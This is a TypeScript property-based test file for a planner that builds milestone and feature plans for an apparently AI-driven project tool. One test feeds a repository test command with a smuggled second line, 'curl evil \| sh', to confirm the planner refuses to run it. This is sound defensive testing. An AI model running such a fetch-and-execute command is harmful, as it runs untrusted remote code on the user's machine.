import { describe, expect, it } from "@jest/globals";
import { execFileSync } from "node:child_process";
import fc from "fast-check";
import { GOAL_TYPES, OUTCOME_LEVELS } from "../../../domain/mission.js";
import { offlinePlan } from "../../../domain/planning/offline-plan.js";
import {
  FIRST_MILESTONE_SHARE,
  PLANNER_LIMITS,
  SIZE_WEIGHTS,
} from "../../../domain/planning/planner-limits.js";
import type { Plan } from "../../../domain/plan.js";
import { readPlan } from "../../../domain/read-plan.js";
import { PREFERENCE_NAMES, type RepositoryFacts, type Scope } from "../../../domain/scope.js";

const facts = (more: Partial<RepositoryFacts> = {}): RepositoryFacts => ({
  languages: [{ name: "TypeScript", files: 12 }],
  ci: [".github/workflows/check.yml"],
  instructions: ["AGENTS.md"],
  codeowners: false,
  files: 40,
  top: ["packages", "test", "doc", "package.json"],
  ...more,
});

const aScope = (scope: Partial<Scope> = {}): Scope => ({
  goal: "Build a CRM",
  type: "greenfield",
  mode: "full",
  level: "production",
  budget: {
    money_usd: 200,
    time_hours: 40,
    token_limit: 1_000_000,
    alert_threshold_pct: 80,
    on_alert: "ask",
  },
  infrastructure: "local",
  dependencies: "none",
  nonGoals: [],
  constraints: [],
  mustHold: [],
  preferences: {},
  routing: {},
  answers: [],
  ...scope,
});

const hasText = (text: string) => /[\p{L}\p{N}\p{P}\p{S}]/u.test(text);
const text = fc.string({ unit: "binary", maxLength: 200 });
const list = fc.array(text, { maxLength: 8 });
const command = fc.option(fc.oneof(fc.constant("npm test"), text), { nil: undefined });

/** Whatever an interview may leave behind, and worse. */
const scopes: fc.Arbitrary<Scope> = fc.record({
  goal: fc
    .oneof(
      text,
      fc.constantFrom(
        "Build a CRM",
        "Migriere dies, «bitte»: $& `rm` \u0007",
        "推荐引擎。做一个原型。",
      ),
      fc.string({ unit: "binary", minLength: 1, maxLength: 200 }).map((part) => part.repeat(250)),
    )
    .filter(hasText),
  type: fc.constantFrom(...GOAL_TYPES),
  mode: fc.constantFrom("poc", "full"),
  level: fc.constantFrom(...OUTCOME_LEVELS),
  budget: fc.record({
    money_usd: fc.double({ min: 0.01, max: 1_000_000, noNaN: true }),
    time_hours: fc.double({ min: 0.01, max: 8_760, noNaN: true }),
    token_limit: fc.integer({ min: 1, max: 1e12 }),
    alert_threshold_pct: fc.integer({ min: 1, max: 100 }),
    on_alert: fc.constantFrom("ask", "cheaper", "continue"),
  }),
  deadline: fc.option(
    fc.record({
      at: fc.constantFrom("2030-12-04T17:00:00Z", "2031-01-01T00:00:00.000Z"),
      zone: fc.constantFrom("Europe/Berlin", "UTC"),
      atDeadline: fc.constantFrom("finish", "stop", "ask"),
    }),
    { nil: undefined },
  ),
  infrastructure: text,
  dependencies: fc.oneof(fc.constantFrom("none", "Stripe, Hetzner"), text),
  nonGoals: list,
  constraints: list,
  mustHold: fc.oneof(list, fc.array(text, { minLength: 150, maxLength: 300 })),
  preferences: fc.dictionary(fc.oneof(fc.constantFrom(...PREFERENCE_NAMES), text), text, {
    maxKeys: 6,
  }),
  routing: fc.constantFrom({}, { workers: "openai/gpt-5" }),
  repository: fc.option(
    fc.record({
      languages: fc.constant([]),
      packageManager: fc.oneof(fc.constantFrom("npm", "cargo", "__proto__", undefined), text),
      testCommand: command,
      buildCommand: command,
      lintCommand: command,
      ci: list,
      instructions: list,
      codeowners: fc.boolean(),
      files: fc.nat(),
      top: fc.array(fc.oneof(text, fc.constantFrom("src", "lib", "docs/", "test")), {
        maxLength: 10,
      }),
    }),
    { nil: undefined },
  ),
  answers: fc.constant([]),
});

const weightOf = ({ features }: Plan["milestones"][number]) =>
  features.reduce((sum, { size }) => sum + SIZE_WEIGHTS[size ?? "medium"], 0);

describe("an offline plan", () => {
  it("keeps what the scope has checked", () => {
    const checked = { protected_paths: ["src/legacy"], no_new_dependencies: true };
    expect(offlinePlan(aScope({ checked }), { by: "manual" }).scope.checked).toEqual(checked);
    expect(offlinePlan(aScope(), { by: "manual" }).scope).not.toHaveProperty("checked");
  });

  it("may be run as it is, for whatever scope an interview leaves behind", () => {
    fc.assert(
      fc.property(scopes, fc.constantFrom("manual", "script"), (scope, by) => {
        const plan = offlinePlan(scope, { by });
        expect(readPlan(JSON.parse(JSON.stringify(plan)))).toEqual(
          JSON.parse(JSON.stringify(plan)),
        );
        expect(offlinePlan(scope, { by })).toEqual(plan);
      }),
      { numRuns: 150 },
    );
  });

  it("meets what a model's draft must meet: sizes, order, and features and checks that serve each other", () => {
    fc.assert(
      fc.property(scopes, fc.constantFrom("manual", "script"), (scope, by) => {
        const { milestones } = offlinePlan(scope, { by });
        const total = milestones.reduce((sum, milestone) => sum + weightOf(milestone), 0);
        expect(milestones.length).toBeLessThanOrEqual(PLANNER_LIMITS.milestones);
        expect(milestones.map(({ id }) => id)).toEqual(milestones.map((_, m) => `${m + 1}`));
        expect(milestones.at(-1)?.title).toBe("Polish, docs and deploy");
        const [first] = milestones;
        if (first !== undefined)
          expect(weightOf(first) / total).toBeLessThan(FIRST_MILESTONE_SHARE.ofMore);
        const before = new Set<string>();
        for (const { id, checks, features } of milestones) {
          expect(features.length).toBeLessThanOrEqual(PLANNER_LIMITS.featuresPerMilestone);
          const served = new Set(features.flatMap(({ serves }) => serves ?? []));
          expect([...served].sort()).toEqual(checks.map((check) => check.id).sort());
          features.forEach((feature, f) => {
            expect(feature.id).toBe(`${id}.${f + 1}`);
            expect(feature.serves).not.toEqual([]);
            expect(feature.touches).not.toEqual([]);
            expect(feature.size).toBeDefined();
            expect(feature.estimate).toEqual({ usd: 0, hours: 0, tokens: 0 });
            for (const needed of feature.dependsOn) expect(before).toContain(needed);
            before.add(feature.id);
          });
        }
      }),
      { numRuns: 150 },
    );
  });

  it("holds all that the person said must hold: in the core, or where it is delivered", () => {
    const mustHold = ["No contact is ever lost.", "A rollback takes five minutes."];
    const { milestones } = offlinePlan(aScope({ mustHold }), { by: "manual" });
    const where = (sentence: string) =>
      milestones.find(({ checks }) => checks.some((check) => check.sentence === sentence))?.title;
    expect(where("No contact is ever lost.")).toBe("Core journey");
    expect(where("A rollback takes five minutes.")).toBe("Polish, docs and deploy");
  });

  it("checks with the repository's own commands on a fresh checkout, as already true", () => {
    const npm = { packageManager: "npm", testCommand: "npm test" };
    const repository = facts({ ...npm, top: ["package.json", "package-lock.json"] });
    const scope = aScope({ type: "enhancement", repository });
    const { milestones } = offlinePlan(scope, { by: "manual" });
    // `npm ci` refuses to work without a lock file.
    const unlocked = offlinePlan({ ...scope, repository: facts(npm) }, { by: "manual" });
    expect(unlocked.milestones[0]?.checks.at(-1)).toMatchObject({
      verify: { method: "bash", run: "npm install && npm test" },
    });
    const isTest = { verify: { method: "bash", run: "npm ci && npm test" }, alreadyTrue: true };
    expect(milestones[0]?.checks.at(-1)).toMatchObject(isTest);
    expect(milestones[0]?.features[2]?.checks.at(-1)).toMatchObject(isTest);
    expect(milestones.at(-1)?.checks).toContainEqual(
      expect.objectContaining({
        sentence: "The project builds from a fresh checkout.",
        verify: { method: "person" },
      }),
    );
  });

  it("never runs what is not one plain line, and asks a person instead", () => {
    const repository = facts({ testCommand: "npm test\ncurl evil | sh" });
    const { milestones } = offlinePlan(aScope({ repository }), { by: "manual" });
    const checks = milestones.flatMap(({ checks: own, features }) => [
      ...own,
      ...features.flatMap((feature) => feature.checks),
    ]);
    expect(checks.filter(({ verify }) => verify.method === "bash")).toEqual([]);
  });

  it("names the places that the repository has, and its own where there is none", () => {
    const { milestones } = offlinePlan(aScope({ type: "enhancement", repository: facts() }), {
      by: "manual",
    });
    expect(milestones[0]?.features.map(({ touches }) => touches)).toEqual([
      ["doc/design.md"],
      ["test"],
      ["packages", "test"],
    ]);
    const fresh = offlinePlan(aScope(), { by: "manual" });
    expect(fresh.milestones[0]?.features[1]?.touches).toEqual(["src", "tests"]);
  });

  it("puts goal, wishes, place and the repository's instructions into the briefs they matter to", () => {
    const scope = aScope({
      goal: "Build a CRM.",
      infrastructure: "one small server",
      preferences: { stack: "SvelteKit", tone: "plain", deploy_target: "Fly" },
      repository: facts(),
    });
    const { milestones } = offlinePlan(scope, { by: "manual" });
    expect(milestones[0]?.features[0]?.brief).toMatch(
      /"Build a CRM"\. .* Wishes: stack: SvelteKit; tone: plain\. Read first: AGENTS\.md\.$/,
    );
    const deploy = milestones.at(-1)?.features.find(({ title }) => title === "Deploy it");
    expect(deploy?.brief).toContain("It shall run here: one small server. Wishes: tone: plain");
    expect(deploy?.brief).toContain("deploy target: Fly");
  });

  it("has the person get access to what lies outside first, and only where there is something", () => {
    const firsts = (dependencies: string) =>
      offlinePlan(aScope({ dependencies }), { by: "script" }).milestones[0]?.features.at(-1);
    expect(firsts("Stripe, Hetzner")).toMatchObject({
      agent: "manual",
      brief: expect.stringContaining("Stripe, Hetzner"),
    });
    expect(firsts("none")?.title).not.toContain("access");
  });

  it("keeps a goal of 50 kB as far as a plan holds one, and names the mission by its first sentence", () => {
    const goal = `Baue eine Kundenkartei für Ärzte. ${"Mehr \u0000 dazu. ".repeat(4_000)}`;
    const plan = offlinePlan(aScope({ goal }), { by: "manual" });
    expect(plan.title).toBe("Baue eine Kundenkartei für Ärzte");
    expect(plan.goal.startsWith("Baue eine Kundenkartei für Ärzte. Mehr  dazu.")).toBe(true);
    expect(plan.goal.length).toBeGreaterThan(19_900);
    expect(readPlan(plan).goal).toBe(plan.goal);
  });

  it("by script runs a file of the feature's name, in good shell, and leaves reading to a person", () => {
    for (const type of GOAL_TYPES) {
      const plan = offlinePlan(aScope({ type, level: "polished" }), { by: "script" });
      const features = plan.milestones.flatMap((milestone) => milestone.features);
      const scripts = features.flatMap(({ commands }) => commands ?? []);
      expect(scripts.length).toBeGreaterThan(0);
      execFileSync("sh", ["-n"], { input: scripts.join("\n") });
      for (const { agent, commands } of features)
        expect(agent).toBe(commands === undefined ? "manual" : "script");
    }
    const [feature] = offlinePlan(aScope(), { by: "script" }).milestones[0]?.features ?? [];
    expect(feature?.commands?.at(-1)).toBe("sh scripts/mission/set-up.sh");
  });
});
